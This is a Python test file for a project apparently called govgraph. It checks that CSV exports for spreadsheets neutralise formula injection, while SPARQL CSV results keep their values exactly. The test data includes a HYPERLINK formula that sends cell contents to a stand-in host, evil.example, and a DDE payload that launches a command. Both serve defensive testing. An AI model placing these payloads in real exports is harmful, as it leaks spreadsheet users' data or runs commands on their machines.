"""CSV written by govgraph: downloads for spreadsheets neutralise formulas; SPARQL results stay data."""

from __future__ import annotations

import csv
import io

import httpx
import pytest

from govgraph.analysis import table_csv
from govgraph.formats.writers import sparql_csv, spreadsheet_cell, spreadsheet_csv
from govgraph.store.base import QueryResult, Term
from govgraph.web.questions import _csv as question_csv
from tests.conftest import Server

FORMULA = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")'
IGF = "https://w3id.org/govgraph/id/igf"


def cells(body: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(body.decode())))


@pytest.mark.parametrize("text", [FORMULA, "+cmd|'/c calc'!A0", "-2+3", "@SUM(A1:A9)", "\tlead", "\rlead"])
def test_a_text_that_would_start_a_formula_is_quoted(text: str) -> None:
    assert spreadsheet_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["ICANN", "", "-0.25", "+3", "1e-3", "2019-06-01", 0.5, -2, None])
def test_plain_texts_and_numbers_stay_as_they_are(value: object) -> None:
    assert spreadsheet_cell(value) == value


def test_a_question_answer_as_csv_quotes_a_formula_label() -> None:
    result = QueryResult("select", ["forum", "note"], [[Term("uri", IGF), Term("literal", FORMULA)]])
    rows = cells(question_csv(result, {IGF: "@IGF"}))
    assert rows == [["forum", "forum_label", "note"], [IGF, "'@IGF", "'" + FORMULA]]


def test_an_analysis_table_as_csv_quotes_a_formula_label() -> None:
    rows = cells(table_csv([{"label": FORMULA, "degree": -0.5}, {"label": "ICANN", "group": "=1+1"}]))
    assert rows == [["label", "degree", "group"], ["'" + FORMULA, "-0.5", ""], ["ICANN", "", "'=1+1"]]
    assert spreadsheet_csv(["a"], [["=x"]]) == b"a\r\n'=x\r\n"


def test_sparql_csv_results_keep_every_value_exactly() -> None:
    """The W3C SPARQL 1.1 CSV results format is data for programs: a quote would change the value."""
    result = QueryResult("select", ["x"], [[Term("literal", FORMULA)]])
    assert cells(sparql_csv(result)) == [["x"], [FORMULA]]


def test_the_endpoint_csv_keeps_every_value_exactly(server: Server) -> None:
    query = 'SELECT ?x WHERE { VALUES ?x { "=1+1" "@me" } }'
    response = httpx.get(f"{server.base_url}/sparql", params={"query": query}, headers={"Accept": "text/csv"})
    assert cells(response.content) == [["x"], ["=1+1"], ["@me"]]
